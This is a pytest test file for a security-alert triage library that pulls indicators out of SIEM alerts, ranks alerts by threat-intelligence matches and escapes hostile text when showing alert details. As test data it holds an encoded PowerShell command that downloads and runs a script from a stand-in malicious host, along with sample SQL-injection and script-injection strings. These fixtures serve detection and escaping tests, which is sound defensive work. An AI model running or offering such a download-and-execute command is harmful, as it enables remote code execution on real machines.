"""nblib.alert_ti: alerts' indicators, TI ranking and alert details (no kernels).

Pure-pandas steps are tested on small frames; the steps that query run on the demo
store (DuckDB, fast) and on a store that lacks the tables they read.
"""

from __future__ import annotations

import base64
import json

import duckdb
import pandas as pd
import pytest

from nbcatalog.nblib import Investigation, alert_ti

pytest_plugins = ["enrich_support"]  # isolated_config, no_network
pytestmark = pytest.mark.usefixtures("isolated_config")

ATTACKER = "203.0.113.77"
URL = "http://malicious.example/payload.ps1"


def _encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def _alert(alert_id: str, entities, **extra) -> dict:
    text = entities if isinstance(entities, str) else json.dumps(entities)
    return {"SystemAlertId": alert_id, "AlertDisplayName": alert_id, "Entities": text, **extra}


# ------------------------------------------------------------------ naming an entity


@pytest.mark.parametrize(
    ("entity", "expected"),
    [
        (ATTACKER, True),
        ("203.0.113.7", False),  # a prefix of the address is another address
        ("wkstn-042.contoso.com", True),
        ("WKSTN-04", False),
        ("bob", True),
        ("CONTOSO\\bob", True),
        ("bobby.jones", False),
        (URL, True),
        ("http://malicious.example/other.ps1", False),
        ("' OR 1=1 --", False),
        ("", True),  # no entity: every alert
    ],
)
def test_names_entity_matches_whole_values(entity, expected):
    alert = _alert(
        "a1",
        [
            {"$id": "1", "Type": "host", "HostName": "WKSTN-042", "DnsDomain": "contoso.com"},
            {"$id": "2", "Type": "account", "Name": "bob", "NTDomain": "CONTOSO"},
            {"$id": "3", "Type": "ip", "Address": ATTACKER},
            {"$id": "4", "Type": "url", "Url": URL},
        ],
    )
    assert alert_ti.names_entity(alert, entity) is expected


def test_names_entity_reads_compromised_entity_and_survives_bad_json():
    assert alert_ti.names_entity(
        {"Entities": "{not json", "CompromisedEntity": "LNX-WEB01"}, "lnx-web01"
    )
    assert not alert_ti.names_entity({"Entities": None}, ATTACKER)


# ------------------------------------------------------------------ indicators


def test_alert_iocs_decodes_encoded_powershell_only_when_asked():
    cmd = f"powershell -nop -enc {_encoded(f'IEX (iwr {URL})')}"
    alerts = pd.DataFrame([_alert("a1", [{"$id": "5", "Type": "process", "CommandLine": cmd}])])
    decoded = alert_ti.alert_iocs(alerts, decode=True)
    assert set(decoded["Ioc"]) == {URL, "malicious.example"}
    assert set(decoded["SystemAlertId"]) == {"a1"}
    assert alert_ti.alert_iocs(alerts, decode=False).empty


def test_alert_iocs_follow_refs_and_skip_the_organisation_domain():
    entities = [
        {"$id": "2", "Type": "host", "HostName": "WKSTN-042", "DnsDomain": "contoso.com"},
        {"$id": "3", "Type": "account", "Name": "bob", "UPNSuffix": "contoso.com"},
        {"$id": "4", "Type": "filehash", "Algorithm": "SHA256", "Value": "AB" * 32},
        {"$id": "5", "Type": "file", "Name": "payload.ps1", "FileHashes": [{"$ref": "4"}]},
        {"$id": "6", "Type": "ip", "Address": "192.0.2.66"},
    ]
    iocs = alert_ti.alert_iocs(pd.DataFrame([_alert("a1", entities)]))
    assert sorted(iocs["Ioc"]) == ["192.0.2.66", "ab" * 32]
    assert "contoso.com" not in set(iocs["Ioc"])
    assert "payload.ps1" not in set(iocs["Ioc"])


@pytest.mark.parametrize("entities", ["", "{truncated", "[1, 2, null]", "x" * 2_000_000, None])
def test_alert_iocs_never_raise_on_hostile_entities(entities):
    out = alert_ti.alert_iocs(pd.DataFrame([{"SystemAlertId": "a", "Entities": entities}]))
    assert list(out.columns) == alert_ti.IOC_COLUMNS


def test_alert_iocs_of_nothing():
    assert alert_ti.alert_iocs(pd.DataFrame()).empty
    assert alert_ti.alert_iocs(pd.DataFrame({"SystemAlertId": ["a"]})).empty


# ------------------------------------------------------------------ ranking


def _ti(rows):
    return pd.DataFrame(rows, columns=["SystemAlertId", "Ioc", "Result", "Severity"])


def test_rank_alerts_puts_the_worst_ti_match_first():
    alerts = pd.DataFrame(
        {
            "SystemAlertId": ["low-ti", "no-ti", "high-ti", "two-high"],
            "AlertDisplayName": ["w", "n", "h", "hh"],
            "Severity": ["High", "High", "Low", "Low"],
            "StartTimeUtc": pd.to_datetime(["2024-05-01"] * 4, utc=True),
        }
    )
    ti = _ti(
        [
            ("low-ti", "x.example", True, "warning"),
            ("high-ti", ATTACKER, True, "high"),
            ("high-ti", "8.8.8.8", False, "information"),
            ("two-high", ATTACKER, True, "high"),
            ("two-high", "192.0.2.66", True, "high"),
            ("no-ti", "8.8.8.8", False, "information"),
        ]
    )
    ranked = alert_ti.rank_alerts(alerts, ti)
    assert ranked["SystemAlertId"].tolist() == ["two-high", "high-ti", "low-ti", "no-ti"]
    assert ranked["TiRisk"].tolist() == ["high", "high", "warning", "none"]
    assert ranked["TiHits"].tolist() == [2, 1, 1, 0]
    assert ranked.loc[1, "MatchedIocs"] == f"{ATTACKER} (high)"
    assert ranked.loc[3, "Iocs"] == 1  # looked up, not matched


def test_rank_alerts_breaks_ties_by_alert_severity_then_newest():
    alerts = pd.DataFrame(
        {
            "SystemAlertId": ["old-low", "new-low", "high"],
            "Severity": ["Low", "Low", "High"],
            "StartTimeUtc": pd.to_datetime(["2024-05-01", "2024-05-03", "2024-05-02"], utc=True),
        }
    )
    ranked = alert_ti.rank_alerts(alerts, pd.DataFrame())
    assert ranked["SystemAlertId"].tolist() == ["high", "new-low", "old-low"]
    assert set(ranked["TiRisk"]) == {"none"}


def test_rank_alerts_of_no_alerts_has_the_columns():
    assert list(alert_ti.rank_alerts(pd.DataFrame(), pd.DataFrame()).columns) == (
        alert_ti.RANKED_COLUMNS
    )
    assert (
        "no alerts naming x to rank" in alert_ti.ranked_finding(pd.DataFrame(), "x").messages()[0]
    )


# ------------------------------------------------------------------ details


def test_choose_alert_default_exact_and_unknown():
    ranked = pd.DataFrame({"SystemAlertId": ["AbC", "def"]})
    assert alert_ti.choose_alert(ranked, "abc") == ("AbC", [])
    assert alert_ti.choose_alert(ranked)[0] == "AbC"
    chosen, notes = alert_ti.choose_alert(ranked, "<script>" + "z" * 500)
    assert chosen == "" and "no alert with SystemAlertId" in notes[0] and len(notes[0]) < 200


def test_alert_details_escape_hostile_text():
    script = '<script>alert("nbcatalog")</script>'
    ranked = alert_ti.rank_alerts(
        pd.DataFrame(
            [
                _alert(
                    "a1",
                    [{"$id": "2", "Type": "url", "Url": "javascript:alert(1)//" + script}],
                    AlertDisplayName=script,
                    Description=f"see <a href='{URL}'>here</a>",
                )
            ]
        ),
        _ti([("a1", URL, True, "high")]).assign(IocType="url", Provider="T"),
    )
    findings = alert_ti.alert_details(ranked, ranked.assign(Ioc=URL, Result=True), "a1")
    page = "".join(f._repr_html_() for f in findings)
    assert script not in page and "&lt;script&gt;" in page
    assert "<a href" not in page
    assert [f.title for f in findings][1:] == ["Entities", "TI results for this alert"]


def test_alert_details_without_alerts_says_so():
    (only,) = alert_ti.alert_details(pd.DataFrame(), pd.DataFrame())
    assert only.messages() == ["info: no alerts to show"]


def test_browse_shows_the_chosen_alert_from_harvested_results():
    from IPython.utils.capture import capture_output

    ranked = alert_ti.rank_alerts(
        pd.DataFrame([_alert("a1", []), _alert("a2", [{"Type": "ip", "Address": ATTACKER}])]),
        _ti([("a2", ATTACKER, True, "high")]),
    )
    ti = _ti([("a2", ATTACKER, True, "high")])
    with capture_output() as shown:
        box = alert_ti.browse({"enriched_results": ranked, "ti_results": ti})
        box.dropdown.value = "a1"
    assert [v for _, v in box.dropdown.options] == ["a2", "a1"]
    assert box.dropdown.value == "a1"
    del shown


# ------------------------------------------------------------------ on data


@pytest.fixture(scope="module")
def demo_inv(demo_db):
    return Investigation.open(f"duckdb:{demo_db}")


def test_alerts_naming_the_attacker_rank_high_on_the_demo(demo_inv, no_network):
    alerts = alert_ti.alerts_in_range(demo_inv, ATTACKER)
    assert len(alerts.data) >= 3
    for text in alerts.data["Entities"]:
        assert ATTACKER in {e.get("Address") for e in json.loads(text)}
    iocs = alert_ti.alert_iocs(alerts.data)
    ti = alert_ti.lookup_alert_iocs(demo_inv, iocs, alerts.data)
    ranked = alert_ti.rank_alerts(alerts.data, ti.data, iocs)
    assert set(ranked["TiRisk"]) == {"high"}
    assert all(ATTACKER in m for m in ranked["MatchedIocs"])
    assert set(ti.data["AlertDisplayName"]) == set(alerts.data["AlertDisplayName"])
    assert not no_network  # TI came from the store, nothing went online


def test_all_alerts_rank_the_planted_ones_first(demo_inv, demo_db):
    alerts = alert_ti.alerts_in_range(demo_inv)
    iocs = alert_ti.alert_iocs(alerts.data)
    ranked = alert_ti.rank_alerts(
        alerts.data, alert_ti.lookup_alert_iocs(demo_inv, iocs, alerts.data).data, iocs
    )
    with duckdb.connect(str(demo_db), read_only=True) as con:
        total = con.execute("SELECT count(*) FROM SecurityAlert").fetchone()[0]
    assert len(ranked) == total  # the default 7 days hold the whole demo estate
    naming = [ATTACKER in str(e) for e in ranked["Entities"]]
    high = (ranked["TiRisk"] == "high").tolist()
    assert all(h for n, h in zip(naming, high, strict=True) if n)
    # every high-risk alert comes before every alert without a TI match
    last_high = max(i for i, h in enumerate(high) if h)
    assert all(r == "high" for r in ranked["TiRisk"][: last_high + 1])


class TablelessSource:
    """A workspace (like msticpy's) that has none of the tables asked for."""

    def tables(self):
        return ["Heartbeat"]

    def list_queries(self):
        return pd.DataFrame({"name": ["ThreatIntelligence.list_indicators_by_ip"]})

    def query(self, name, **params):
        raise RuntimeError(f"SemanticError: Failed to resolve table for {name}")


def test_missing_tables_become_notes():
    start, end = pd.Timestamp("2024-05-01", tz="UTC"), pd.Timestamp("2024-05-08", tz="UTC")
    inv = Investigation(TablelessSource(), start, end)
    alerts = alert_ti.alerts_in_range(inv, ATTACKER)
    assert alerts.empty and alerts.missing
    assert "no SecurityAlert table" in alerts.messages()[0]
    iocs = pd.DataFrame({"SystemAlertId": ["a"], "Ioc": [ATTACKER], "IocType": ["ipv4"]})
    ti = alert_ti.lookup_alert_iocs(inv, iocs)
    assert ti.missing and "ThreatIntelligenceIndicator" in ti.messages()[0]
    assert any("TI look-up failed for 1 indicator(s)" in m for m in ti.messages())
    assert not ti.data["Result"].any()
    ranked = alert_ti.ranked_finding(alert_ti.rank_alerts(alerts.data, ti.data))
    assert ranked.empty and ranked.messages() == ["info: no alerts to rank"]


def test_empty_store_gives_empty_findings_with_notes(tmp_path):
    from nbcatalog.data.store import Store

    path = tmp_path / "empty.duckdb"
    Store.open(path).close()
    inv = Investigation.open(f"duckdb:{path}")
    alerts = alert_ti.alerts_in_range(inv)
    assert alerts.empty and alerts.messages() == [f"info: no alerts in {inv.period}"]
    assert alert_ti.alert_iocs(alerts.data).empty
    ti = alert_ti.lookup_alert_iocs(inv, alert_ti.alert_iocs(alerts.data), alerts.data)
    assert ti.empty and "hold no IP address" in ti.messages()[0]
